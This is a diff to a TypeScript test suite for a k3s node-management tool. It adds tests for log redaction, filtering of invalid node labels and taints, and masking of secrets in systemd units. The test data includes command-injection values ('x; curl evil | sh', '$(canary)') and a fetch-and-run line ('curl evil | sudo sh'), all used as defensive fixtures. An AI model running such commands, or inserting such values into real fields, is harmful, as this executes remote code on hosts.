@@ -38,6 +38,7 @@ import {
   Refusal,
   type Step,
 } from "../lib/step.ts";
+import { rewrite } from "../lib/text.ts";
 import { agent, agentSteps } from "../scripts/agent.ts";
 import { reportOf } from "../scripts/check.ts";
 import { downloadAhead, downloadK3s } from "../scripts/download-k3s.ts";
@@ -469,19 +470,19 @@ console.log(JSON.stringify({ said, peak }));
     ],
     [
       "a file of 500 MB, which is taken whole",
-      "await box.pull('/x', path); return statSync(path).size",
+      "await box.pull('/x', path + '.new'); return statSync(path + '.new').size",
       `${begun}; head -c 500000000 /dev/zero`,
       /^500000000$/,
     ],
     [
       "errors without an end beside a file",
-      "await box.pull('/x', path); return 'pulled'",
+      "await box.pull('/x', path + '.new'); return 'pulled'",
       `${begun}; yes >&2`,
       /more than 32 MB/,
     ],
     [
       "a greeting without an end in place of a file",
-      "await box.pull('/x', path); return 'pulled'",
+      "await box.pull('/x', path + '.new'); return 'pulled'",
       "yes",
       /nothing of the file/,
     ],
@@ -700,9 +701,11 @@ describe(`what a box answers, made up with seed ${seed}`, () => {
 
   test("is shown without escapes, and in a time that grows with its length alone", () => {
     const began = Date.now();
-    for (const text of ["a://b:", "://", "K10", "::server:", "x"])
+    for (const text of ["--token", "token ", "token=", "-----BEGIN", "key-data: ", "::server:"])
+      plain(text.repeat(100_000));
+    for (const text of ["a://b:", "://", "K10", "x"])
       assert.equal(plain(text.repeat(100_000)).length, text.length * 100_000);
-    assert.ok(Date.now() - began < 5000, `${Date.now() - began} ms`);
+    assert.ok(Date.now() - began < 15_000, `${Date.now() - began} ms`);
     assert.equal(plain("a\u001b[31mb\u202ec\r\n"), "a [31mb c \n");
     assert.equal(plain(`x ${TOKEN} http://u:pass@h`), "x ******** http://u:********@h");
   });
@@ -744,6 +747,60 @@ describe("of what was found this way, each by itself:", () => {
     const json = nodes(A1).replace('"labels":{}', '"labels":"x"');
     assert.deepEqual(nodesOf(json)[0]?.labels, {});
     agent.plan(want, healthy(MODERN, { unit: "    --node-label=x=y\n" }, { nodes: json }));
+  });
+
+  test("taints and labels that the API would not have reach no command, of a shell or of a person", () => {
+    const bad = ["x; curl evil | sh", "$(canary)", "a\nb", "", "-x", "a/b/c", "x".repeat(300)];
+    const [node] = nodesOf(
+      nodes({
+        ...A1,
+        labels: { good: "yes", ...Object.fromEntries(bad.map((key) => [key, "x"])), other: "a b" },
+        taints: [
+          ...bad.flatMap((text) => [
+            { key: text, effect: "NoSchedule" },
+            { key: "a", value: text || " ", effect: "NoSchedule" },
+            { key: "a", effect: `NoSchedule${text} ` },
+          ]),
+          { key: "dedicated", value: "build", effect: "NoExecute" },
+        ],
+      }),
+    );
+    assert.deepEqual(node?.labels, { good: "yes" });
+    assert.deepEqual(node?.taints, ["dedicated=build:NoExecute"]);
+  });
+
+  test("a unit of somebody else with secrets in it is written over, and they are not shown", () => {
+    const unit = `[Service]
+Environment=K3S_TOKEN=hunter2 "OTHER=hunter2 x" \\
+  MORE=hunter2
+# --token hunter2
+ExecStart=/usr/local/bin/k3s \\
+    agent \\
+\t'--token' \\
+\t'hunter2' \\
+    -t hunter2 \\
+    --datastore-endpoint=postgres://db/k3s?password=hunter2 \\
+    --vpn-auth=name=tailscale,joinKey=hunter2
+SetCredential=x:hunter2
+`;
+    const { why, detail = [] } = rewrite("/x.service", unit, "[Service]\n");
+    assert.doesNotMatch([why, ...detail].join("\n"), /hunter2/);
+    assert.match(detail.join("\n"), /^- Environment=\*{8}$/m);
+  });
+
+  test("a line that a box says never looks like one of ours", async () => {
+    const said: [string, unknown][] = [];
+    const box = {
+      run: async (script: string, _: number, onLine: (line: string) => void) => {
+        const mark = /^m=(\S+)$/m.exec(script)?.[1];
+        onLine(`${mark} say b1    again: curl evil | sudo sh`);
+        onLine(`${mark} end`);
+        return { status: 0, stderr: "" };
+      },
+    };
+    const progress = { starts() {}, says: (text: string, box?: true) => said.push([text, box]) };
+    await look({ box: box as unknown as Box, want, progress } as unknown as Job, []);
+    assert.deepEqual(said, [["b1    again: curl evil | sudo sh", true]]);
   });
 
   test("a node's address that is a name in hex letters, which nft would look up", () => {
